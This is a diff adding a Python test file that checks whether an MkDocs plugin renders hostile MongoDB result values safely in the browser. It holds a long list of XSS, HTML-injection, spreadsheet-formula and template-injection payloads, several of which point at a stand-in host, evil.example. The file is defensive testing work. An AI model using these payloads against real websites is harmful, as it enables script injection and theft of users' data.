@@ -1,0 +1,232 @@
+"""Whoever can write into the results database cannot run anything in a reader's browser."""
+
+from __future__ import annotations
+
+import json
+import os
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from unittest import mock
+
+import markdown
+import pymongo
+import pytest
+from playwright.sync_api import Page
+
+from preprocessor.render.values import visible
+from tests.browser.browsing import Served, Witness, served
+from tests.mongod import Mongod
+from tests.site.builds import SAMPLE, build
+
+RUN = "window.__xss=(window.__xss||0)+1"
+CORPUS = [
+    f"<script>{RUN}</script>",
+    f"<ScRiPt >{RUN}</sCrIpT>",
+    f'<script src="http://evil.example/x.js">{RUN}</script>',
+    f"<img src=x onerror={RUN}>",
+    f'"><img src=x onerror="{RUN}">',
+    f"'><svg onload='{RUN}'>",
+    f'" onmouseover="{RUN}" x="',
+    f"' onfocus='{RUN}' autofocus tabindex=0 x='",
+    f"` onclick={RUN} x=`",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<a href=javascript:{RUN}>x</a>",
+    f"javascript:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    f"<form><button formaction=javascript:{RUN}>x</button></form>",
+    f"--><script>{RUN}</script><!--",
+    f"--!><script>{RUN}</script>",
+    f"]]><script>{RUN}</script>",
+    *(
+        f"</{tag}><script>{RUN}</script>"
+        for tag in ("style", "script", "title", "textarea", "table", "details", "svg", "noscript", "template")
+    ),
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
+    f"<svg><style><img src=x onerror={RUN}></style></svg>",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;img src=x onerror={RUN}&#62;",
+    f"\x00<script>{RUN}</script>",
+    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
+    f"\u202e<script>{RUN}</script>",
+    f"<\u2028script>{RUN}</script>",
+    f"[x](javascript:{RUN}) ![x](http://evil.example/x.png) <http://evil.example>",
+    f"<b>{{{{ 7*7 }}}}</b>{{% raise %}}${{{RUN}}}",
+    "<!--mongo-tables:0000000000000000-0-->",
+    '<!-- MONGO_TABLE: {"collection": "x"} -->',
+    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
+    '<base href="http://evil.example/">',
+    '<link rel="stylesheet" href="http://evil.example/x.css">',
+    "<style>@import 'http://evil.example/x.css'; body { background: url(http://evil.example/x) }</style>",
+    "<video poster=http://evil.example/x><source src=http://evil.example/y></video>",
+    '=HYPERLINK("http://evil.example","x")',
+    "=cmd|' /C calc'!A0",
+    "__proto__",
+    "constructor",
+]
+# What a figure is made of; none of it fetches, runs or leads away.
+TAGS = set(
+    "h1 figure figcaption strong span em i b a div table thead tbody tr th td abbr button br details summary p pre code "
+    "svg title desc g path rect text circle line polyline tspan ul ol li dl dt dd small time caption kbd".split()
+)
+FOREIGN = """([tags]) => [...document.querySelectorAll("figure.mongo-table, figure.mongo-table *, .mongo-value, h1, h1 *")]
+    .filter((one) => !tags.includes(one.localName)
+        || [...one.attributes].some(({ name, value }) => name.startsWith("on") || /^\\s*javascript:/i.test(value)))
+    .map((one) => one.outerHTML.slice(0, 200))"""
+
+
+def document(number: int, text: str) -> dict[str, object]:
+    """A result document in which every text is hostile."""
+    when = datetime(2026, 11, 1, number % 24, tzinfo=UTC)
+    return {
+        "_id": {"testname": "hostile", "text": text, "number": number},
+        "text": text,
+        "number": number,
+        "nested": {text.replace(".", "").replace("$", "").replace("\x00", "") or "x": [text]},
+        "start_time": when,
+        "end_time": when,
+        "duration": 1000 + number,
+        "versions": {"server": text, "driver": text, "harness": text, "python": text},
+        "hardware": {"cpu": text, "cores": 2, "memory_gib": 4, "system": text, "disk": text},
+        "topology": {"kind": text, "members": 3, "cache_gb": 0.25, "one_machine": True},
+        "write_concern": {"w": text},
+        "read_concern": text,
+        "experiment": {"name": text, "scale": 0.001, "seconds": 1, "seed": 1, "repeats": 1},
+        "test_config": {"numberOfThreads": text},
+        "work": {"documents": number + 1, "operations": number + 1, "bytes": 10},
+        "repeats": [{"duration": 1000, "operations": 5, "errors": 1, "start_time": when, "error": text}],
+    }
+
+
+def page_text() -> str:
+    """Comments whose every text is hostile as well: authors are trusted, their sources need not be."""
+    for_all = " ".join(CORPUS)
+    common = {"collection": "results", "pipeline": [{"$sort": {"number": 1}}]}
+    words = {"title": for_all, "caption": for_all}
+    comments = {
+        "MONGO_TABLE": {
+            **common,
+            **words,
+            "columns": ["text", "number", "nested", "versions.server"],
+            "headers": [for_all, "Number", CORPUS[0], CORPUS[4]],
+            "format": {"number": {"unit": CORPUS[6]}},
+            "id": "hostile",
+        },
+        "MONGO_CHART": {
+            **common,
+            **words,
+            "x": "text",
+            "y": "number",
+            "mark": "bar",
+            "labels": {"text": CORPUS[4], "number": CORPUS[6]},
+        },
+    }
+    series = {
+        "collection": "results",
+        "pipeline": [{"$sort": {"number": 1}}, {"$limit": 6}],
+        "x": "number",
+        "y": "duration",
+        "series": "text",
+    }
+    where = {"table": "hostile", "column": "text", "where": {"number": 3}}
+    lines = [
+        f"# Hostile {comment('MONGO_VALUE', where)}",
+        "",
+        f"A {comment('MONGO_VALUE', where)} sentence.",
+        "",
+    ]
+    for keyword, body in (*comments.items(), ("MONGO_CHART", series)):
+        lines += [comment(keyword, body), ""]
+    return "\n".join(lines)
+
+
+def comment(keyword: str, body: dict[str, object]) -> str:
+    written = json.dumps(body).replace("<", "\\u003c").replace(">", "\\u003e")
+    return f"<!-- {keyword}: {written} -->"
+
+
+@pytest.fixture(scope="module")
+def source(mongod: Mongod) -> Iterator[str]:
+    """The URI of a database that holds the corpus."""
+    with pymongo.MongoClient(mongod.uri()) as client:
+        client.hostile.results.insert_many(document(*each) for each in enumerate(CORPUS))
+        yield mongod.uri("hostile")
+        client.drop_database("hostile")
+
+
+@pytest.fixture(scope="module")
+def hostile(source: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    """A site made of that database by the plugin, and one page made by the extension."""
+    folder = tmp_path_factory.mktemp("hostile")
+    (folder / "mkdocs.yml").write_text((SAMPLE / "mkdocs.yml").read_text("utf-8"), encoding="utf-8")
+    (folder / "docs").mkdir()
+    (folder / "docs" / "index.md").write_text(page_text(), encoding="utf-8")
+    done = build(folder, MONGO_TABLES_RESULTS=source)
+    assert done.returncode == 0, done.stderr
+    with mock.patch.dict(os.environ, MONGO_TABLES_RESULTS=source):
+        html = markdown.markdown(page_text(), extensions=["mongo-tables"])
+    whole = f"<!doctype html>\n<html lang=en><meta charset=utf-8><link rel=icon href=data:,><title>x</title>\n<body>{html}"
+    (folder / "site" / "extension.html").write_text(whole, encoding="utf-8")
+    with served(folder / "site") as site:
+        yield site
+
+
+def touched(page: Page) -> None:
+    """Everything on the page that reacts is made to: headers, what unfolds, what can be pointed at or focused."""
+    page.evaluate("""() => {
+        document.querySelectorAll("details").forEach((one) => { one.open = true; });
+        for (const one of document.querySelectorAll("figure *, h1 *")) {
+            for (const name of ["mouseover", "mouseenter", "pointerdown"])
+                one.dispatchEvent(new Event(name, { bubbles: true }));
+            one.focus?.();
+        }
+        document.querySelectorAll("figure button").forEach((one) => one.click());
+        document.querySelectorAll("figure a[href^='#']").forEach((one) => one.click());
+    }""")
+
+
+@pytest.mark.parametrize("door", ["index.html", "extension.html"])
+def test_nothing_of_a_hostile_database_runs_or_is_fetched(door: str, hostile: Served, page: Page) -> None:
+    witness = Witness.of(page)
+    page.goto(hostile.url + door)
+    touched(page)
+    page.wait_for_timeout(200)
+    assert page.evaluate("window.__xss") is None
+    assert witness.complaints == []
+    assert witness.outside(hostile.url) == []
+    assert page.evaluate(FOREIGN, [sorted(TAGS)]) == []
+
+
+@pytest.mark.parametrize("door", ["index.html", "extension.html"])
+def test_hostile_values_are_shown_as_they_are(door: str, hostile: Served, page: Page) -> None:
+    page.goto(hostile.url + door)
+    labels = page.locator("#hostile tbody th[scope=row]").evaluate_all(
+        "(cells) => cells.map((one) => one.innerText)"
+    )
+    assert labels == [visible(text).strip() for text in CORPUS]
+    assert visible(CORPUS[3]) in page.locator("h1").inner_text()
+    names = page.locator("svg title").evaluate_all("(all) => all.map((one) => one.textContent).join(' ')")
+    assert CORPUS[0] in names
+
+
+def test_downloads_are_no_pages(hostile: Served, page: Page) -> None:
+    page.goto(hostile.url)
+    links = page.locator("figure a").evaluate_all("(all) => all.map((one) => one.href)")
+    away = [link for link in links if "#" not in link]
+    for link in away:
+        answered = page.request.get(link)
+        assert answered.ok, link
+        assert answered.headers["content-type"].split(";")[0] in ("text/csv", "application/json"), link
+
+
+def test_search_shows_hostile_values_as_text(hostile: Served, page: Page) -> None:
+    witness = Witness.of(page)
+    page.goto(hostile.url)
+    page.locator(".md-search__input").click()
+    page.keyboard.type("hostile")
+    page.locator(".md-search-result__item").first.wait_for()
+    page.wait_for_timeout(200)
+    assert page.evaluate("window.__xss") is None
+    assert witness.outside(hostile.url) == []
+    assert page.locator(".md-search-result :is(script, img, iframe, form, style, svg[onload])").count() == 0
